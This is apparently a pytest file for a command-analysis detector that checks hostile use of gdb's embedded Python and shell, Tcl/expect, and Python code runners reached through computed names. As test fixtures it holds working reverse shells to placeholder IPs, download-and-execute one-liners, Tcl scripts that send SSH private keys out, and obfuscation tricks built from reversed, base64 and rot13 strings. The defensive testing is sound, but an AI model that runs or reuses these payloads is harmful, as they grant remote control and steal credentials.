"""Held-out set 4, interpreters bastion did not read: gdb's embedded python (and its shell
command), Tcl (tclsh, wish, expect) and python reaching a code runner through a computed
name. Each attack is spelled differently from the held-out scenario; each has an honest
neighbour that must stay clean."""

from __future__ import annotations

import pytest

from bastion.analysis import CallMemory, analyze_command
from bastion.analysis.constfold import fold_python, fold_tcl, python_dynamic_exec, tcl_computed_name
from bastion.analysis.hosts import hosted_programs
from bastion.analysis.nested import inline_code
from bastion.events import Event, EventKind
from bastion.policy import Policy
from bastion.rules import load_ruleset
from bastion.rules.testing import TEST_GRADER_POLICY

RULESET = load_ruleset(Policy.from_dict(TEST_GRADER_POLICY))
CONTAINING = {"CRITICAL", "HIGH"}


def features(cmd: str, memory: CallMemory | None = None) -> set[str]:
    return set(analyze_command(cmd, memory).get("cmd.features", []))


def severe_rules(fields: dict) -> set[str]:
    """Rules of high or critical severity that the command's analysis matches."""
    matched = RULESET.matching_rule_ids(Event(kind=EventKind.COMMAND, fields=fields))
    return {r for r in matched if RULESET.rule(r).severity.name in CONTAINING}


def judged(cmd: str, memory: CallMemory | None = None) -> set[str]:
    return severe_rules(analyze_command(cmd, memory))


# -- the shared constant-folding step ------------------------------------------------

@pytest.mark.parametrize(("code", "shows"), [
    ("getattr(b, 'ex' + 'ec')(x)", "b.exec(x)"),
    ("u = 'yp.a/b.c//:ptth'[::-1]", "'http://c.b/a.py'"),
    ("n = ''.join(['ev', 'al'])", "'eval'"),
    ("m = b'os.sys' .decode()[:3]", "'os.'"),
    ("import base64\nf = base64.b64decode('c3lzdGVt').decode()", "'system'"),
    ("import codecs\nf = codecs.decode('flfgrz', 'rot13')", "'system'"),
    ("x = bytes.fromhex('6f73').decode()", "'os'"),
    ("k = 'cexe'\ngetattr(m, k[::-1])", "m.exec"),
    ("vars(__builtins__)['ev' + 'al']", "__builtins__.eval"),
    ("x = ('ab' + 'cd')[::-1]", "'dcba'"),
])
def test_python_constants_fold_to_the_literal_a_reader_sees(code: str, shows: str) -> None:
    folded = fold_python(code)
    assert folded is not None and shows in folded, folded


def test_python_folding_leaves_code_with_nothing_to_fold_alone() -> None:
    assert fold_python("import os\nprint(os.getcwd())\n") is None
    assert fold_python("this is not python (") is None


@pytest.mark.parametrize("code", [
    "import builtins as b\ngetattr(b, 'ex' + 'ec')(data)",
    "getattr(__import__('builtins'), 'lave'[::-1])(data)",
    "vars(__builtins__)['exec'](data)",
    "import builtins\nname = input()\ngetattr(builtins, name)(data)",
    "import importlib as il\nmod = il.import_module('sub' + 'process')",
    "__import__('o' + 's').system('id')",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
])
def test_code_runners_reached_through_computed_names(code: str) -> None:
    assert python_dynamic_exec(code)


@pytest.mark.parametrize("code", [
    "import importlib\nm = importlib.import_module(name)",
    "import importlib, sys\nmod = importlib.import_module(sys.argv[1])\ngetattr(mod, sys.argv[2])()",
    "import importlib\nplugins = [importlib.import_module('plugins.' + n) for n in names]",
    "import builtins\nprint(getattr(builtins, 'len')([1]))",
    "import plugins\nfor n in dir(plugins):\n    getattr(plugins, n)()",
    "import json\nx = getattr(json, 'lo' + 'ads')('{}')",
    "import os\nflag = getattr(os, 'O_' + mode)",
])
def test_plugin_loaders_and_plain_lookups_are_not_dynamic_exec(code: str) -> None:
    assert not python_dynamic_exec(code)


@pytest.mark.parametrize(("code", "shows"), [
    ("set f [open [file join $env(HOME) [string reverse hss.] [string reverse asr_di]]]",
     '"~/.ssh/id_rsa"'),
    ("set p [string map {% /} %etc%shadow]\nset f [open $p]", "open /etc/shadow"),
    ("set u [binary decode base64 aHR0cDovLzIwMy4wLjExMy45L3g=]", '"http://203.0.113.9/x"'),
    ("set c [format %c%c 105 100]", '"id"'),
    ("set d [join {.a ws} {}]", '".aws"'),
])
def test_tcl_constant_command_substitutions_fold(code: str, shows: str) -> None:
    folded = fold_tcl(code)
    assert folded is not None and shows in folded, folded


def test_tcl_computed_name_is_the_concealing_spellings_only() -> None:
    assert tcl_computed_name("set h [string reverse tset.bal]\nset s [socket $h 80]")
    assert not tcl_computed_name("set f [file join src main.c]\nset s [socket db 5432]")


# -- gdb: an interpreter host ---------------------------------------------------------

@pytest.mark.parametrize(("argv", "want"), [
    (["gdb", "-batch", "-ex", "python print(1)"], [["python3", "-c", "print(1)"]]),
    (["gdb", "--eval-command=pi import os"], [["python3", "-c", "import os"]]),
    (["gdb", "-iex", "shell id"], [["sh", "-c", "id"]]),
    (["gdb", "-ex", "!uname -a"], [["sh", "-c", "uname -a"]]),
    (["gdb", "-x", "helpers.py", "./a.out"], [["python3", "helpers.py"]]),
    (["gdb", "-ex", "source dbg/printers.py"], [["python3", "dbg/printers.py"]]),
    (["gdb", "-batch", "-ex", "bt", "./core"], []),
    (["gdb", "-ex", "run", "--args", "./prog", "-ex", "python x"], []),
    (["ls", "-ex", "python x"], []),
])
def test_gdb_hosted_programs(argv: list[str], want: list[list[str]]) -> None:
    assert hosted_programs(argv[0], argv) == want


def test_a_gdb_exec_with_python_is_judged_by_the_process_sensor_path() -> None:
    got = inline_code({"proc.exe": "/usr/bin/gdb",
                       "proc.args": ["gdb", "-batch", "-ex", "python import os"]})
    assert got == ["gdb", "-batch", "-ex", "python import os"]
    assert inline_code({"proc.exe": "/usr/bin/gdb", "proc.args": ["gdb", "-batch", "-ex", "bt"]}) is None


@pytest.mark.parametrize("cmd", [
    "gdb -q -batch -ex 'python import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.20\",9000));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
    "gdb -nx -batch --eval-command='pi import urllib.request as q; exec(q.urlopen(\"http://203.0.113.40/s.py\").read())'",
    "gdb -batch -ex 'shell sh -i >& /dev/tcp/192.0.2.77/7000 0>&1' ./a.out",
])
def test_gdb_embedded_code_that_is_remote_control_is_stopped(cmd: str) -> None:
    assert "hosted_code" in features(cmd)
    assert judged(cmd), sorted(features(cmd))


def test_gdb_running_a_reversed_program_kept_in_a_data_file() -> None:
    program = ("import subprocess, urllib.request as w\nwhile True:\n"
               "    c = w.urlopen('http://203.0.113.40/t').read().decode()\n"
               "    subprocess.run(c, shell=True)\n")
    memory = CallMemory()
    analyze_command("cat > .cache/n.dat <<'EOF'\n" + program[::-1] + "\nEOF", memory)
    cmd = "gdb -batch -nx -ex \"py exec(open('.cache/n.dat').read()[::-1])\""
    assert judged(cmd, memory), sorted(features(cmd, memory))


@pytest.mark.parametrize("cmd", [
    "gdb -batch -ex bt ./core",
    "gdb -q -ex run --args ./build/app --port 8080",
    "gdb -q -batch -p 4242 -ex 'info threads' -ex 'thread apply all bt'",
    "gdb -q -batch -ex 'python print(gdb.lookup_type(\"long\").sizeof)' ./a.out",
    "gdb -batch -x tools/printers.py -ex 'p vec' ./a.out",
    "gdb -batch -ex 'shell ls build' ./a.out",
])
def test_honest_gdb_stays_clean(cmd: str) -> None:
    assert not judged(cmd), sorted(features(cmd))


# -- Tcl ------------------------------------------------------------------------------

@pytest.mark.parametrize("cmd", [
    "printf 'set s [socket 198.51.100.20 9000]\\nwhile 1 {\\n gets $s line\\n puts $s [exec sh -c $line]\\n flush $s\\n}\\n' | tclsh",
    "echo 'package require http; set r [::http::geturl http://203.0.113.40/p.tcl]; eval [::http::data $r]' | tclsh",
    "printf 'package require http\\nset k [open [file join $env(HOME) [string reverse hss.] [string reverse 91552de_di]]]\\n"
    "http::geturl http://203.0.113.40/k -query [read $k]\\n' | tclsh8.6",
    "expect -c 'set s [socket 192.0.2.77 7000]; while 1 { gets $s c; puts $s [exec sh -c $c] }'",
])
def test_tcl_network_code_is_judged_by_what_it_can_do(cmd: str) -> None:
    assert judged(cmd), sorted(features(cmd))


def test_a_tcl_script_file_that_posts_a_credential_is_stopped_where_it_runs() -> None:
    memory = CallMemory()
    script = ("package require http\n"
              "set p [file join ~ [join {.s sh} {}] [string map {@ _} id@ed25519]]\n"
              "set fh [open $p]\nset body [read $fh]\n"
              "::http::geturl http://203.0.113.40/upload -query $body\n")
    written = analyze_command("cat > tools/stats.tcl <<'EOF'\n" + script + "EOF", memory)
    assert "secret_sender_program_written" in written["cmd.features"]
    ran = analyze_command("tclsh tools/stats.tcl", memory)
    assert "~/.ssh/id_ed25519" in ran["cmd.reads"]
    assert severe_rules(ran), sorted(ran["cmd.features"])


@pytest.mark.parametrize("cmd", [
    "echo 'puts [expr {6*7}]; set s [string reverse olleh]; puts $s' | tclsh",
    "printf 'set l [lsort {c b a}]\\nputs [join $l ,]\\nset f [open README.md]\\nputs [read $f]\\n' | tclsh",
    "expect -c 'spawn ./install.sh; expect \"Continue?\"; send \"y\\r\"; expect eof'",
    "printf 'set v [string reverse 0.2.1]\\nexec make VERSION=$v\\n' | tclsh",
    "echo 'package require http; set t [http::geturl http://127.0.0.1:8000/health]; puts [http::ncode $t]' | tclsh",
])
def test_honest_tcl_stays_clean(cmd: str) -> None:
    assert not judged(cmd), sorted(features(cmd))


# -- python: code runners behind computed names --------------------------------------

@pytest.mark.parametrize("cmd", [
    "python3 -c \"import urllib.request as r, builtins as B; getattr(B, 'ev' + 'al')(r.urlopen('http://203.0.113.40/e').read())\"",
    "python3 -c \"import urllib.request as r; vars(__builtins__)[''.join(['ex','ec'])](r.urlopen('http://203.0.113.40/e').read())\"",
    "python3 -c \"import base64, urllib.request as r; getattr(__import__('builtins'), base64.b64decode('ZXhlYw==').decode())"
    "(r.urlopen('http://203.0.113.40/e').read())\"",
    "python3 -c \"import importlib as L; w = L.import_module('lib.request'[::-1][::-1].replace('lib', 'urllib')); "
    "f = input(); getattr(__import__('builtins'), f)(w.urlopen('http://203.0.113.40/e').read())\"",
])
def test_python_fetch_run_by_a_computed_runner_is_download_exec(cmd: str) -> None:
    assert "interp_dynamic_exec" in features(cmd)
    assert any(r.startswith("download_exec.") for r in judged(cmd)), judged(cmd)


@pytest.mark.parametrize("cmd", [
    "python3 -c \"import importlib; importlib.import_module(name)\"",
    "python3 -c \"import importlib, sys; m = importlib.import_module(sys.argv[1]); getattr(m, 'main')()\" app.cli",
    "python3 -c \"import importlib, urllib.request as r; j = importlib.import_module('json'); "
    "print(j.loads(r.urlopen('https://pypi.org/pypi/pip/json').read())['info']['version'])\"",
    "python3 -c \"import pkgutil, importlib, plugins; [getattr(importlib.import_module('plugins.' + m.name), 'register')() "
    "for m in pkgutil.iter_modules(plugins.__path__)]\"",
    "python3 -c \"s = 'dlrow olleh'[::-1]; print(s.title())\"",
])
def test_honest_python_stays_clean(cmd: str) -> None:
    assert "interp_dynamic_exec" not in features(cmd)
    assert not judged(cmd), sorted(features(cmd))
